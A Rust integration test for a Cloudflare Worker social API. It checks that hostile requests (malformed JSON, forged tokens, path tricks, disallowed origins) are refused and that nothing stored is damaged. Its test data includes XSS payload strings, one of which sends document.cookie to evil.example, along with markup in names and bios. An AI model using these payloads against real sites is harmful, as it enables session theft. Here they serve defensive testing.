//! The bad-input matrix, against the real Worker under `wrangler dev`.
//!
//! Every route of API v1 ([`routes`]) gets every hostile input that applies to
//! it: malformed, truncated and oversized bodies, wrong types, missing and extra
//! fields, invalid UTF-8, control, zero-width and bidi characters, over-long
//! text, invalid settings, unknown and malformed ids (posts, replies, brand
//! tokens, queued replies) and handles, path tricks, bad and tampered cursors
//! and limits, missing, forged, altered, revoked and expired tokens (session,
//! brand and SSO), the wrong role, writes and CORS preflights from sites the
//! account does not list, and wrong methods. Each [`Case`] changes one thing
//! in a request the route would otherwise take, and names the exact status
//! and error `code` it must get.
//!
//! Around the matrix: an account with posts, replies, follows, brand tokens,
//! settings, an SSO secret, replies waiting in its queue and hidden ones is
//! seeded and snapshotted through the API first; afterwards the snapshot must
//! be the same, wrangler's log must show no panic and no internal error, and
//! normal writes must still work (and take the next numbers: no refused write
//! used one).
//!
//! What `wrangler dev`'s local proxy does not let a test see (a plain JS Worker
//! shows the same, so these are not the edge's): a chunked body that the
//! Worker refuses before reading it whole often gets the proxy's own 503 (such
//! cases are retried, then reported as inconclusive, see [`is_dev_proxy_cut`];
//! a large body with a Content-Length sometimes does too, or gets its
//! connection reset before the answer is read, and is retried);
//! a Content-Length larger than the body sent gets no answer at all (the proxy
//! waits for the body); and every `Upgrade: websocket` request reaches the
//! Worker as a GET, whatever its method. The last two have no case here.

use gazouillis_protocol::limits::MAX_BODY_BYTES;
use gazouillis_protocol::webhook::CreatedWebhook;
use gazouillis_protocol::token::{self, Claims};
use gazouillis_protocol::{
    ErrorBody, FollowState, HiddenContent, IssuedToken, Pending, Post, PostPage, Queue, Reply, ReplyPage, Session,
};
use gazouillis_tests::{Edge, Method, Resp, SETTLE, Suite, ensure, ensure_eq, eventually};
use serde::Serialize;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{Shutdown, TcpStream};
use std::sync::{Arc, LazyLock, OnceLock};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

// ----- the seeded world -----

const ACME: &str = "acme";
const OTHER: &str = "other";
/// A valid handle no account has.
const GHOST: &str = "ghost";
/// The handle that refused account creations try to take.
const INTRUDER: &str = "intruder";
/// acme's post with two stored pages of replies: the `{id}` of the matrix.
const THREAD: &str = "acme-0";
/// acme's post with the script-like replies.
const SCRIPT_THREAD: &str = "acme-1";
/// acme's post deleted before the matrix (it had a reply).
const DELETED: &str = "acme-2";
/// ana's first reply in THREAD: the `{id}` of the reply routes.
const REPLY: &str = "acme-0-0";
/// dan's reply to acme-3, which the brand hid before the matrix.
const HIDDEN_REPLY: &str = "acme-3-0";
/// other's post hidden before the matrix.
const HIDDEN_POST: &str = "other-2";
/// cleo's reply waiting in acme's queue (a blocked word): the `{id}` of the queue routes.
const QUEUED: &str = "0";
/// dan's reply waiting in acme's queue after cleo's (a link).
const QUEUED_LINK: &str = "1";
/// acme's SSO secret, set before the matrix.
const SSO_SECRET: &str = "acme-signs-its-customers-0123456789";
/// acme's customer, as acme's site names them.
const CUSTOMER_SUB: &str = "client-7";
const CUSTOMER_NAME: &str = "Zoé";
/// The one site acme lets write through its widget, and one it does not.
const SHOP: &str = "https://shop.example";
const EVIL: &str = "https://evil.example";
const ACME_POSTS: u64 = 55;
const THREAD_REPLIES: u64 = 52;
/// acme's posts from this number on hold [`SCRIPTY`].
const FIRST_SCRIPTY_POST: u64 = 40;
const TEN_MB: usize = 10 * 1024 * 1024;
/// `u64::MAX` in base 36: the largest number an id or a cursor holds.
const U64_MAX_B36: &str = "3w5e11264sgsf";
/// `u64::MAX + 1`: one too many.
const U64_OVER_B36: &str = "3w5e11264sgsg";

const ACME_NAME: &str = "Acme <b>Corp</b> & Co";
const ACME_BIO: &str = "<iframe src=\"javascript:alert(1)\"></iframe> We make <i>things</i> & \"stuff\".";
/// A visitor name that is markup (40 characters at most).
const BOB_NAME: &str = "<img src=x onerror=alert('bob')>";

/// Texts that look like markup or code: stored and answered verbatim, as text.
const SCRIPTY: [&str; 10] = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">",
    "</script><script>alert(1)</script>",
    "\"><svg onload=alert(1)>",
    "&lt;b&gt;not decoded&lt;/b&gt; &amp; &#60;script&#62;",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
    "line\u{2028}separator\u{2029}paragraph",
    "<!-- --><style>*{display:none}</style>",
    "\\u003cscript\\u003e \\\" \\\\",
];

/// acme's settings, set before the matrix: open, so that normal replies still
/// publish, with a blocked word and links queued (what fills the queue), and
/// one site allowed to write.
fn acme_settings() -> Value {
    json!({"moderation": "open", "blocked_words": ["arnaque"], "links": "queue", "sso_required": false, "origins": [SHOP]})
}

/// What acme's site signs for its customer, with acme's SSO secret.
fn customer_sso(exp: u64) -> String {
    sso_token(Claims { sub: CUSTOMER_SUB.into(), name: CUSTOMER_NAME.into(), exp, customer_of: None }, SSO_SECRET)
}

fn sso_token(claims: Claims, secret: &str) -> String {
    token::sign(&claims, secret.as_bytes())
}

/// A good SSO token of acme's customer, valid until 2096: the `sso` of the matrix's sign-ins.
static CUSTOMER_SSO: LazyLock<String> = LazyLock::new(|| customer_sso(4_000_000_000));

fn sso_sign_in(account: &str, sso: &str) -> Vec<u8> {
    json!({"account": account, "sso": sso}).to_string().into_bytes()
}

fn post_text(n: u64) -> String {
    match n.checked_sub(FIRST_SCRIPTY_POST).and_then(|i| SCRIPTY.get(i as usize)) {
        Some(text) => (*text).to_owned(),
        None => format!("acme post number {n}"),
    }
}

/// Lowercase base 36, as ids spell their numbers.
fn b36(mut n: u64) -> String {
    let mut digits = Vec::new();
    loop {
        digits.push(std::char::from_digit((n % 36) as u32, 36).unwrap());
        n /= 36;
        if n == 0 {
            break;
        }
    }
    digits.iter().rev().collect()
}

fn now_seconds() -> u64 {
    SystemTime::now().duration_since(UNIX_EPOCH).expect("clock after 1970").as_secs()
}

struct World {
    edge: Edge,
    seed: OnceLock<Seed>,
}

impl World {
    fn seed(&self) -> &Seed {
        self.seed.get().expect("the seed step failed: nothing to check against")
    }
}

struct Seed {
    /// Follows acme; wrote REPLY.
    ana: Session,
    /// Follows acme and other; his name is markup.
    bob: Session,
    /// Follows other; has a reply waiting in acme's queue: the visitor `/v1/me` acts as.
    cleo: Session,
    /// Followed acme, then unfollowed; wrote HIDDEN_REPLY, and a reply waiting in acme's queue.
    dan: Session,
    /// The visitor the matrix acts as elsewhere: follows nothing, wrote nothing.
    mallory: Session,
    /// acme's customer, signed in by acme's SSO; replied to acme-4.
    zoe: Session,
    /// acme's brand token (its community manager's), and one issued then revoked.
    acme_cm: IssuedToken,
    revoked: IssuedToken,
    /// other's brand token.
    other_cm: IssuedToken,
    /// A webhook of acme's, and one of other's.
    acme_hook: CreatedWebhook,
    other_hook: CreatedWebhook,
    /// Real `next` cursors of acme's feed and of THREAD's replies.
    feed_next: String,
    thread_next: String,
    before: Snapshot,
}

impl Seed {
    fn visitors(&self) -> [(&'static str, &Session); 6] {
        [
            ("ana", &self.ana),
            ("bob", &self.bob),
            ("cleo", &self.cleo),
            ("dan", &self.dan),
            ("mallory", &self.mallory),
            ("zoe", &self.zoe),
        ]
    }
}

/// Everything the API shows of the seeded data, read by read.
#[derive(Debug, PartialEq)]
struct Snapshot(Vec<(String, Value)>);

fn to_value<T: Serialize>(value: T) -> Value {
    serde_json::to_value(value).expect("serializable")
}

impl Snapshot {
    /// The accounts, their whole feeds, every post, every post's whole
    /// replies, the follow state of every visitor for every account, every
    /// account's settings, brand tokens, queue and hidden posts and replies
    /// (as the operator sees them), every visitor's whole timeline and
    /// `/v1/me`, and a sign-in by acme's SSO.
    async fn take(e: &Edge, visitors: &[(&str, &Session)]) -> Result<Snapshot, String> {
        let mut reads = Vec::new();
        for handle in [ACME, OTHER] {
            let path = format!("/v1/accounts/{handle}");
            reads.push((format!("GET {path}"), e.get(&path).send().await.check_json::<Value>(200)?));
            let feed = e.feed_all(handle, Some(50)).await?;
            for post in &feed {
                let path = format!("/v1/posts/{}", post.id);
                let read: Value = e.get(&path).send().await.check_json(200)?;
                let count = read["replies"].as_u64().ok_or_else(|| format!("{path}: no reply count"))?;
                reads.push((format!("GET {path}"), read));
                let replies = e.replies_all(&post.id, Some(50)).await?;
                reads.push((format!("replies of {} walked from the first page", post.id), to_value(replies)));
                // Each stored page by its cursor too, whatever the walk reaches.
                for from in (50..count).step_by(50) {
                    let path = format!("{path}/replies?limit=50&cursor={}", b36(from));
                    reads.push((format!("GET {path}"), e.get(&path).send().await.check_json::<Value>(200)?));
                }
            }
            reads.push((format!("the whole feed of {handle}"), to_value(feed)));
            for (name, visitor) in visitors {
                reads.push((
                    format!("{name} follows {handle}"),
                    to_value(e.follow_state(&visitor.token, handle).await?),
                ));
            }
            for what in ["settings", "tokens", "queue", "hidden"] {
                let path = format!("/v1/accounts/{handle}/{what}");
                reads.push((format!("GET {path}"), e.admin(e.get(&path)).send().await.check_json::<Value>(200)?));
            }
        }
        for (name, visitor) in visitors {
            reads.push((format!("timeline of {name}"), to_value(e.timeline_all(&visitor.token, Some(50)).await?)));
            let me: Value = e.get("/v1/me").bearer(&visitor.token).send().await.check_json(200)?;
            reads.push((format!("GET /v1/me of {name}"), me));
        }
        // No call reads an SSO secret back: a sign-in with acme's shows it still holds.
        let sso = e.post("/v1/session/sso").raw(sso_sign_in(ACME, &customer_sso(now_seconds() + 3600))).send().await;
        let mut answer: Value = serde_json::from_slice(&sso.body).map_err(|err| format!("{}: {err}", sso.label))?;
        // The session token holds its expiry, which moves with the clock.
        answer.as_object_mut().and_then(|session| session.remove("token"));
        reads.push(("a sign-in of acme's customer by SSO".into(), json!({"status": sso.status, "answer": answer})));
        Ok(Snapshot(reads))
    }

    /// `Ok` if `now` shows exactly what `self` showed; else what differs.
    fn same_as(&self, now: &Snapshot) -> Result<(), String> {
        let short = |v: &Value| {
            let s = v.to_string();
            if s.len() > 300 { format!("{}…", s.chars().take(300).collect::<String>()) } else { s }
        };
        let now_map: BTreeMap<&str, &Value> = now.0.iter().map(|(k, v)| (k.as_str(), v)).collect();
        let before_map: BTreeMap<&str, &Value> = self.0.iter().map(|(k, v)| (k.as_str(), v)).collect();
        let mut diffs = Vec::new();
        for (label, was) in &self.0 {
            match now_map.get(label.as_str()) {
                None => diffs.push(format!("{label}: gone (was {})", short(was))),
                Some(is) if *is != was => diffs.push(format!("{label}: was {}, now {}", short(was), short(is))),
                Some(_) => {}
            }
        }
        for (label, is) in &now.0 {
            if !before_map.contains_key(label.as_str()) {
                diffs.push(format!("{label}: new, {}", short(is)));
            }
        }
        ensure!(diffs.is_empty(), "{} read(s) changed:\n    {}", diffs.len(), diffs.join("\n    "));
        Ok(())
    }
}

// ----- the test -----

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile() {
    let mut suite = Suite::new("hostile", World { edge: Edge::start().await, seed: OnceLock::new() });
    suite.step("seed: accounts, posts, replies, follows, a deletion; snapshot", seed).await;
    suite.step("script-like text comes back byte for byte, as JSON text", script_text).await;
    suite
        .step(
            "replies past the first 50 are reached from the first page (edge bug found seeding)",
            replies_past_first_page,
        )
        .await;
    let world = suite.ctx();
    if world.seed.get().is_some() {
        let cases = all_cases(&world);
        let count = |area: Area| cases.iter().filter(|c| c.area == area).count();
        let counts: Vec<String> = Area::ALL.iter().map(|a| format!("{} {}", a.name(), count(*a))).collect();
        eprintln!("[hostile] {} cases: {}", cases.len(), counts.join(", "));
    }
    drop(world);
    for area in Area::ALL {
        suite.step(area.title(), move |w| matrix(w, area)).await;
    }
    suite.step("everything stored before is still there, unchanged", unchanged).await;
    suite.step("wrangler's log: no panic, no internal error", clean_log).await;
    suite.step("the Worker still takes normal writes, numbering goes on", still_works).await;
    suite.finish(|w| w.edge.dump_log()).await;
}

async fn seed(w: Arc<World>) {
    let e = &w.edge;
    let acme = e.create_account(ACME, ACME_NAME, ACME_BIO).await;
    assert_eq!((acme.name.as_str(), acme.bio.as_str()), (ACME_NAME, ACME_BIO), "markup in name and bio, as written");
    e.create_account(OTHER, "Other", "").await;
    for n in 0..ACME_POSTS {
        let text = post_text(n);
        let post = e.create_post(ACME, &text).await;
        assert_eq!((post.id, post.text), (format!("acme-{}", b36(n)), text), "post {n} as created");
    }
    for n in 0..2 {
        e.create_post(OTHER, &format!("other post {n}")).await;
    }
    let ana = e.new_session("Ana").await;
    let bob = e.new_session(BOB_NAME).await;
    assert_eq!(bob.visitor.name, BOB_NAME, "a markup name, as written");
    let (cleo, dan, mallory) =
        (e.new_session("Cleo").await, e.new_session("Dan").await, e.new_session("Mallory").await);

    for n in 0..THREAD_REPLIES {
        let (who, text) = if n % 2 == 0 { (&ana, format!("ana says {n}")) } else { (&bob, format!("bob says {n}")) };
        assert_eq!(e.reply(&who.token, THREAD, &text).await.text, text);
    }
    for (n, text) in SCRIPTY.iter().enumerate() {
        let who = if n % 2 == 0 { &bob } else { &cleo };
        assert_eq!(e.reply(&who.token, SCRIPT_THREAD, text).await.text, *text, "script-like reply as written");
    }
    e.reply(&cleo.token, DELETED, "this reply goes with its post").await;
    e.reply(&cleo.token, "other-0", "a reply elsewhere").await;
    let followed = FollowState { following: true, followers: 1 };
    assert_eq!(e.follow(&ana.token, ACME).await, followed);
    e.follow(&bob.token, ACME).await;
    e.follow(&bob.token, OTHER).await;
    e.follow(&cleo.token, OTHER).await;
    e.follow(&dan.token, ACME).await;
    e.unfollow(&dan.token, ACME).await;
    e.delete_post(DELETED).await;

    // What the newer routes could damage: brand tokens, the SSO secret,
    // settings, the queue, hidden posts and replies.
    let issue = |handle: &str, name: &str| {
        let path = format!("/v1/accounts/{handle}/tokens");
        let body = json!({"name": name});
        async move { e.admin_post(&path, &body).await.expect_json::<IssuedToken>(201) }
    };
    let (acme_cm, revoked, other_cm) =
        (issue(ACME, "Community manager").await, issue(ACME, "Former agency").await, issue(OTHER, "Other's CM").await);
    e.admin(e.delete(&format!("/v1/accounts/{ACME}/tokens/{}", revoked.id))).send().await.expect(204);
    let hook = |handle: &str| {
        let path = format!("/v1/accounts/{handle}/webhooks");
        let body = json!({"url": format!("https://hooks.example/{handle}"), "format": "json"});
        async move { e.admin_post(&path, &body).await.expect_json::<CreatedWebhook>(201) }
    };
    let (acme_hook, other_hook) = (hook(ACME).await, hook(OTHER).await);
    e.admin(e.put("/v1/accounts/acme/sso")).json(&json!({"secret": SSO_SECRET})).send().await.expect(204);
    let zoe: Session = e.post("/v1/session/sso").raw(sso_sign_in(ACME, &CUSTOMER_SSO)).send().await.expect_json(201);
    assert_eq!(zoe.visitor.name, CUSTOMER_NAME, "the customer's name, from acme's site");
    e.reply(&zoe.token, "acme-4", "Is it in stock?").await;
    e.admin(e.put("/v1/accounts/acme/settings")).json(&acme_settings()).send().await.expect(200);
    for (who, post, text, id) in [
        (&cleo, "acme-4", "Quelle ARNAQUE !", QUEUED),
        (&dan, "acme-5", "cheaper at https://elsewhere.example", QUEUED_LINK),
    ] {
        let reply = e.post(&format!("/v1/posts/{post}/replies")).bearer(&who.token).json(&json!({"text": text}));
        assert_eq!(reply.send().await.expect_json::<Pending>(202).id, id, "{text:?} queued as");
    }
    assert_eq!(e.reply(&dan.token, "acme-3", "a reply the brand hides").await.id, HIDDEN_REPLY);
    assert_eq!(e.create_post(OTHER, "a post other hides").await.id, HIDDEN_POST);
    for path in [format!("/v1/replies/{HIDDEN_REPLY}/hidden"), format!("/v1/posts/{HIDDEN_POST}/hidden")] {
        e.admin(e.put(&path)).json(&json!({"hidden": true})).send().await.expect(200);
    }
    let queue: Queue = e.admin(e.get("/v1/accounts/acme/queue")).send().await.expect_json(200);
    assert_eq!(queue.queued.iter().map(|q| q.id.as_str()).collect::<Vec<_>>(), [QUEUED, QUEUED_LINK], "acme's queue");
    let hidden: HiddenContent = e.admin(e.get("/v1/accounts/acme/hidden")).send().await.expect_json(200);
    assert_eq!(hidden.replies.iter().map(|r| r.id.as_str()).collect::<Vec<_>>(), [HIDDEN_REPLY], "acme's hidden");

    let visitors = [("ana", &ana), ("bob", &bob), ("cleo", &cleo), ("dan", &dan), ("mallory", &mallory), ("zoe", &zoe)];
    let before = eventually(SETTLE, || async {
        let account = e.account(ACME).await?;
        ensure_eq!((account.posts, account.followers), (ACME_POSTS - 1, 2), "acme (posts, followers)");
        ensure_eq!(e.account(OTHER).await?.followers, 2, "other's followers");
        ensure_eq!(e.post_of(THREAD).await?.replies, THREAD_REPLIES, "replies of {THREAD}");
        // Read by cursor, not walked to: see the step `replies_past_first_page`.
        let second: ReplyPage =
            e.get(&format!("/v1/posts/{THREAD}/replies?limit=50&cursor=1e")).send().await.check_json(200)?;
        ensure_eq!(second.replies.len() as u64, THREAD_REPLIES - 50, "replies on the second stored page");
        ensure_eq!(e.replies_all(SCRIPT_THREAD, None).await?.len(), SCRIPTY.len(), "script-like replies listed");
        ensure_eq!(e.feed_all(ACME, Some(50)).await?.len() as u64, ACME_POSTS - 1, "acme's feed");
        e.get(&format!("/v1/posts/{DELETED}")).send().await.check_error(404, "post_not_found")?;
        e.get(&format!("/v1/posts/{DELETED}/replies")).send().await.check_error(404, "post_not_found")?;
        ensure_eq!(e.follow_state(&dan.token, ACME).await?, FollowState { following: false, followers: 2 }, "dan");
        // The timeline reaches back as far as each feed head: acme's newest 50, other's 2.
        ensure_eq!(e.timeline_all(&bob.token, Some(50)).await?.len(), 50 + 2, "bob's timeline");
        ensure_eq!(e.post_of("acme-3").await?.replies, 0, "replies of acme-3, its one reply hidden");
        ensure_eq!(e.post_of("acme-4").await?.replies, 1, "replies of acme-4: zoe's, not cleo's waiting one");
        ensure_eq!(e.feed_all(OTHER, None).await?.len(), 2, "other's feed, its hidden post out");
        for (visitor, reply) in [(&dan, HIDDEN_REPLY), (&zoe, "acme-4-0")] {
            let me: Value = e.get("/v1/me").bearer(&visitor.token).send().await.check_json(200)?;
            ensure_eq!(me["replies"][0]["id"], reply, "the reply in /v1/me of {}", visitor.visitor.name);
        }
        Snapshot::take(e, &visitors).await
    })
    .await;
    let feed: PostPage = e.get("/v1/accounts/acme/posts").send().await.expect_json(200);
    let thread: ReplyPage = e.get(&format!("/v1/posts/{THREAD}/replies")).send().await.expect_json(200);
    let (feed_next, thread_next) =
        (feed.next.expect("acme's feed has a second page"), thread.next.expect("a second page"));
    eprintln!("[hostile] seeded and snapshotted: {} reads", before.0.len());
    let seed = Seed { ana, bob, cleo, dan, mallory, zoe, acme_cm, revoked, other_cm, acme_hook, other_hook, feed_next, thread_next, before };
    assert!(w.seed.set(seed).is_ok(), "seeded twice");
}

/// Asserts that `resp` is JSON carrying `text` exactly as serde_json writes
/// it: not HTML-escaped, not re-encoded, not sanitized.
fn assert_verbatim(resp: &Resp, text: &str) {
    let content_type = resp.header("content-type").unwrap_or_default();
    assert!(content_type.starts_with("application/json"), "{}: content-type {content_type:?}", resp.label);
    let literal = serde_json::to_string(text).unwrap();
    assert!(
        resp.text().contains(&literal),
        "{}: the body does not hold {literal} as written: {}",
        resp.label,
        resp.text()
    );
}

async fn script_text(w: Arc<World>) {
    let (e, seed) = (&w.edge, w.seed());
    let account = e.get("/v1/accounts/acme").send().await;
    assert_verbatim(&account, ACME_NAME);
    assert_verbatim(&account, ACME_BIO);
    let feed = e.feed_all(ACME, Some(50)).await.unwrap();
    for (i, text) in SCRIPTY.iter().enumerate() {
        let id = format!("acme-{}", b36(FIRST_SCRIPTY_POST + i as u64));
        let resp = e.get(&format!("/v1/posts/{id}")).send().await;
        assert_eq!(resp.expect_json::<Post>(200).text, *text, "GET /v1/posts/{id}");
        assert_verbatim(&resp, text);
        let in_feed = feed.iter().find(|p| p.id == id).unwrap_or_else(|| panic!("{id} not in the feed"));
        assert_eq!(in_feed.text, *text, "{id} in the feed");
    }
    let feed_page = e.get("/v1/accounts/acme/posts?limit=50").send().await;
    assert_verbatim(&feed_page, SCRIPTY[0]);
    let replies = e.get(&format!("/v1/posts/{SCRIPT_THREAD}/replies")).send().await;
    let page: ReplyPage = replies.expect_json(200);
    let texts: Vec<&str> = page.replies.iter().map(|r| r.text.as_str()).collect();
    assert_eq!(texts, SCRIPTY, "script-like replies, in order, as written");
    for text in SCRIPTY {
        assert_verbatim(&replies, text);
    }
    assert_verbatim(&replies, BOB_NAME);
    assert_eq!(page.replies[0].author, seed.bob.visitor, "the markup name of the author, as written");
}

/// Found while seeding: thread page 0 says where the list goes on (`next`)
/// as of its last rewrite, and reply 50 marks only page 1 for rewriting. When
/// page 0 was written before reply 50 existed, its `next` stays `null`, and
/// walking the replies from the start stops at 50 for good. Reproduced here
/// on its own account, deterministically: page 0 written, then reply 50.
async fn replies_past_first_page(w: Arc<World>) {
    let e = &w.edge;
    e.create_account("pages", "Pages", "").await;
    let post = e.create_post("pages", "fifty replies and more").await;
    let walker = e.new_session("Walker").await;
    for n in 0..50 {
        e.reply(&walker.token, &post.id, &format!("reply {n}")).await;
    }
    eventually(SETTLE, || async {
        ensure_eq!(e.replies_all(&post.id, Some(50)).await?.len(), 50, "the first 50 replies, listed");
        Ok(())
    })
    .await;
    e.reply(&walker.token, &post.id, "reply 50, the first of the second stored page").await;
    eventually(SETTLE, || async {
        ensure_eq!(e.post_of(&post.id).await?.replies, 51, "reply count");
        let by_cursor: ReplyPage =
            e.get(&format!("/v1/posts/{}/replies?cursor=1e", post.id)).send().await.check_json(200)?;
        ensure_eq!(by_cursor.replies.len(), 1, "replies from cursor 1e (50)");
        for limit in [Some(50), None] {
            let walked = e.replies_all(&post.id, limit).await?;
            ensure_eq!(walked.len(), 51, "replies walked from the first page with limit {limit:?}");
        }
        Ok(())
    })
    .await;
}

async fn matrix(w: Arc<World>, area: Area) {
    let cases: Vec<Case> = all_cases(&w).into_iter().filter(|c| c.area == area).collect();
    let started = Instant::now();
    let wrong = run_cases(&w.edge, &cases).await;
    eprintln!("[hostile] {}: {} cases in {:.2?}, {} wrong", area.name(), cases.len(), started.elapsed(), wrong.len());
    assert!(
        wrong.is_empty(),
        "{} of {} cases answered wrongly:\n  - {}",
        wrong.len(),
        cases.len(),
        wrong.join("\n  - ")
    );
}

async fn unchanged(w: Arc<World>) {
    let (e, seed) = (&w.edge, w.seed());
    eventually(SETTLE, || async { seed.before.same_as(&Snapshot::take(e, &seed.visitors()).await?) }).await;
    for handle in [INTRUDER, GHOST] {
        e.get(&format!("/v1/accounts/{handle}")).send().await.expect_error(404, "account_not_found");
    }
}

async fn clean_log(w: Arc<World>) {
    let log = w.edge.log_tail(usize::MAX);
    let marks = ["panicked", "RuntimeError", "unreachable", "Uncaught", "internal error", "KV error", "corrupt hub"];
    let bad: Vec<&str> = log.lines().filter(|line| marks.iter().any(|m| line.contains(m))).collect();
    assert!(bad.is_empty(), "wrangler's log shows {} failure line(s):\n{}", bad.len(), bad.join("\n"));
}

async fn still_works(w: Arc<World>) {
    let (e, seed) = (&w.edge, w.seed());
    let post = e.create_post(ACME, "still standing after the matrix").await;
    assert_eq!(post.id, format!("acme-{}", b36(ACME_POSTS)), "a refused post took a number");
    let reply = e.reply(&seed.mallory.token, THREAD, "still answering").await;
    assert_eq!(reply.id, format!("{THREAD}-{}", b36(THREAD_REPLIES)), "a refused reply took a number");
    assert_eq!(e.follow(&seed.mallory.token, ACME).await, FollowState { following: true, followers: 3 });
    let visitor = e.new_session("After The Storm").await;
    e.reply(&visitor.token, &post.id, "and a new visitor too").await;
    eventually(SETTLE, || async {
        let account = e.account(ACME).await?;
        ensure_eq!((account.posts, account.followers), (ACME_POSTS, 3), "acme (posts, followers)");
        ensure_eq!(e.post_of(&post.id).await?.replies, 1, "replies of the new post");
        ensure_eq!(e.post_of(THREAD).await?.replies, THREAD_REPLIES + 1, "replies of {THREAD}");
        Ok(())
    })
    .await;
    // acme's brand token and its queue came through too: its community manager
    // approves cleo's waiting reply and rejects dan's.
    let queue = |id: &str| format!("/v1/accounts/{ACME}/queue/{id}");
    let approved: Reply =
        e.post(&format!("{}/approve", queue(QUEUED))).bearer(&seed.acme_cm.token).send().await.expect_json(201);
    assert_eq!((approved.id.as_str(), approved.text.as_str()), ("acme-4-1", "Quelle ARNAQUE !"), "approved");
    e.delete(&queue(QUEUED_LINK)).bearer(&seed.acme_cm.token).send().await.expect(204);
}

// ----- cases -----

/// The area of a case: one step of the suite each.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Area {
    Bodies,
    Text,
    Sizes,
    Paths,
    Lists,
    Tokens,
    Origins,
    Methods,
}

impl Area {
    const ALL: [Area; 8] =
        [Area::Bodies, Area::Text, Area::Sizes, Area::Paths, Area::Lists, Area::Tokens, Area::Origins, Area::Methods];

    fn name(self) -> &'static str {
        match self {
            Area::Bodies => "bodies",
            Area::Text => "text",
            Area::Sizes => "sizes",
            Area::Paths => "paths",
            Area::Lists => "lists",
            Area::Tokens => "tokens",
            Area::Origins => "origins",
            Area::Methods => "methods",
        }
    }

    fn title(self) -> &'static str {
        match self {
            Area::Bodies => {
                "bodies: malformed and truncated JSON, invalid UTF-8, wrong types, missing and extra fields"
            }
            Area::Text => {
                "text: control, NUL, zero-width, bidi override, 141 characters (texts, names, handles, bios), \
                 invalid settings, short SSO secrets"
            }
            Area::Sizes => "sizes: 100,000 characters, 8 KiB + 1 byte, 10 MB with and without Content-Length",
            Area::Paths => {
                "paths: unknown and malformed ids (posts, replies, brand tokens, queued replies) and handles, \
                 encoded and literal path tricks"
            }
            Area::Lists => "lists: bad and tampered cursors and limits, cursors on unknown accounts and posts",
            Area::Tokens => {
                "tokens: missing, malformed, forged, altered, revoked, expired (session, brand, SSO), wrong role"
            }
            Area::Origins => "origins: writes and CORS preflights from sites the account does not list",
            Area::Methods => "methods: wrong and unknown methods, /live without upgrade",
        }
    }
}

/// What a case must be answered.
#[derive(Clone, Copy, Debug)]
enum Expect {
    /// This status with `{"error":{"code":<code>,"message":<non-empty>}}`.
    Error(u16, &'static str),
    /// This (non-error) status, with a JSON body.
    Ok(u16),
    /// This status with no body: a CORS preflight let through.
    Empty(u16),
}

#[derive(Clone)]
enum Body {
    None,
    Bytes(Vec<u8>),
    /// `json` followed by spaces up to `len` bytes: valid JSON, only too big.
    Padded {
        json: Vec<u8>,
        len: usize,
    },
}

impl Body {
    fn bytes(&self) -> Vec<u8> {
        match self {
            Body::None => Vec::new(),
            Body::Bytes(bytes) => bytes.clone(),
            Body::Padded { json, len } => {
                let mut out = json.clone();
                out.resize(*len, b' ');
                out
            }
        }
    }

    fn describe(&self) -> String {
        match self {
            Body::None => String::new(),
            Body::Bytes(bytes) => format!(" body {}", shorten(bytes, 90)),
            Body::Padded { json, len } => format!(" body {} padded with spaces to {len} bytes", shorten(json, 60)),
        }
    }
}

/// How a case goes on the wire.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Wire {
    /// reqwest, through the harness.
    Client,
    /// Bytes on a socket, as written: literal `..`, invalid UTF-8 in the
    /// path or a header, WebSocket handshakes.
    Raw,
    /// Raw, the body in chunks, with no Content-Length.
    Chunked,
}

struct Case {
    area: Area,
    what: String,
    method: Method,
    /// The request target as sent, e.g. `/v1/posts/acme-0?x=y`.
    path: Vec<u8>,
    authorization: Vec<Vec<u8>>,
    headers: Vec<(&'static str, String)>,
    body: Body,
    wire: Wire,
    expect: Expect,
}

impl Case {
    fn new(area: Area, what: impl Into<String>, method: Method, path: impl Into<Vec<u8>>) -> Case {
        Case {
            area,
            what: what.into(),
            method,
            path: path.into(),
            authorization: Vec::new(),
            headers: Vec::new(),
            body: Body::None,
            wire: Wire::Client,
            expect: Expect::Ok(200),
        }
    }

    fn path(mut self, path: impl Into<Vec<u8>>) -> Case {
        self.path = path.into();
        self
    }

    /// Replaces the Authorization header(s); `None` sends none.
    fn authorization(mut self, value: Option<impl Into<Vec<u8>>>) -> Case {
        self.authorization = value.into_iter().map(Into::into).collect();
        self
    }

    fn bearer(self, token: &str) -> Case {
        self.authorization(Some(format!("Bearer {token}")))
    }

    fn also_authorization(mut self, value: impl Into<Vec<u8>>) -> Case {
        self.authorization.push(value.into());
        self
    }

    fn header(mut self, name: &'static str, value: impl Into<String>) -> Case {
        self.headers.push((name, value.into()));
        self
    }

    fn body(mut self, body: impl Into<Vec<u8>>) -> Case {
        self.body = Body::Bytes(body.into());
        self
    }

    fn padded(mut self, json: Vec<u8>, len: usize) -> Case {
        self.body = Body::Padded { json, len };
        self
    }

    fn wire(mut self, wire: Wire) -> Case {
        self.wire = wire;
        self
    }

    fn error(mut self, status: u16, code: &'static str) -> Case {
        self.expect = Expect::Error(status, code);
        self
    }

    fn ok(mut self, status: u16) -> Case {
        self.expect = Expect::Ok(status);
        self
    }

    fn empty(mut self, status: u16) -> Case {
        self.expect = Expect::Empty(status);
        self
    }

    fn label(&self) -> String {
        let auth = match self.authorization.as_slice() {
            [] => String::new(),
            values => {
                let values: Vec<String> = values.iter().map(|v| shorten(v, 50)).collect();
                format!(" Authorization {}", values.join(" + "))
            }
        };
        let headers: String = self.headers.iter().map(|(k, v)| format!(" {k}: {v}")).collect();
        let wire = if self.wire == Wire::Client { String::new() } else { format!(" [{:?}]", self.wire) };
        format!(
            "[{}] {}: {} {}{auth}{headers}{}{wire}",
            self.area.name(),
            self.what,
            self.method,
            shorten(&self.path, 100),
            self.body.describe()
        )
    }
}

/// Bytes for a label: lossy text, cut to `max` characters.
fn shorten(bytes: &[u8], max: usize) -> String {
    let text = String::from_utf8_lossy(bytes);
    let count = text.chars().count();
    if count <= max {
        format!("{text:?}")
    } else {
        format!("{:?}…({} bytes)", text.chars().take(max).collect::<String>(), bytes.len())
    }
}

// ----- routes -----

#[derive(Clone, Copy, PartialEq, Eq)]
enum Who {
    Anyone,
